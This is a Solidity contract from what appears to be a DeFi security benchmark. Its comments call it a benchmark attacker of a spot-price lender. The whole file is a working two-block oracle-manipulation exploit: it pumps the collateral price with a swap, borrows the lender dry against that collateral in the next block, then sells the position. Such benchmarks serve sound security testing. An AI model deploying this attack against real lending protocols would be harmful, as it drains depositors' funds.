// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../../breakers/Transfers.sol";
import {IBenchPair, ISpotLender} from "./SpotFlashBorrower.sol";

/// @title SpotPumpBorrower
/// @notice Benchmark attacker of `SpotPriceLender` without a flash loan, over two blocks: `pump`
/// buys collateral with the attacker's own stable asset, then `harvest` (next block) borrows the
/// lender dry against collateral held here and sells what was bought. The loot stays here.
contract SpotPumpBorrower {
    address public immutable owner;
    IBenchPair public immutable pair;
    ISpotLender public immutable victim;
    IERC20 public immutable collateral;
    IERC20 public immutable stable;
    uint256 public bought;

    error NotOwner(address caller);

    constructor(IBenchPair pair_, ISpotLender victim_, IERC20 collateral_, IERC20 stable_) {
        owner = msg.sender;
        pair = pair_;
        victim = victim_;
        collateral = collateral_;
        stable = stable_;
    }

    function pump(uint256 amount) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        stable.approve(address(pair), amount);
        bought += pair.swap(address(stable), amount, 0, address(this));
    }

    /// @notice Borrows up to `maxAmount` against no more collateral than it needs (at most
    /// `maxCollateral`), then sells what `pump` bought once the lender is dry.
    function harvest(uint256 maxCollateral, uint256 maxAmount) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        uint256 amount = stable.balanceOf(address(victim));
        if (amount > maxAmount) amount = maxAmount;
        uint256 collateralAmount = _collateralFor(amount);
        if (collateralAmount > maxCollateral) {
            collateralAmount = maxCollateral;
            uint256 limit = collateralAmount * victim.price() / 1e18 * victim.ltvBps() / 10_000;
            amount = limit * 10_000 / (10_000 + victim.feeBps());
        }
        collateral.approve(address(victim), collateralAmount);
        victim.borrowAgainst(collateralAmount, amount);
        if (stable.balanceOf(address(victim)) == 0 && bought > 0) {
            collateral.approve(address(pair), bought);
            pair.swap(address(collateral), bought, 0, address(this));
            bought = 0;
        }
    }

    /// @dev The collateral a loan of `amount` needs at the current spot price, rounded up.
    function _collateralFor(uint256 amount) private view returns (uint256) {
        uint256 debt = amount + amount * victim.feeBps() / 10_000;
        return debt * 1e18 * 10_000 / victim.ltvBps() / victim.price() + 1e18;
    }
}
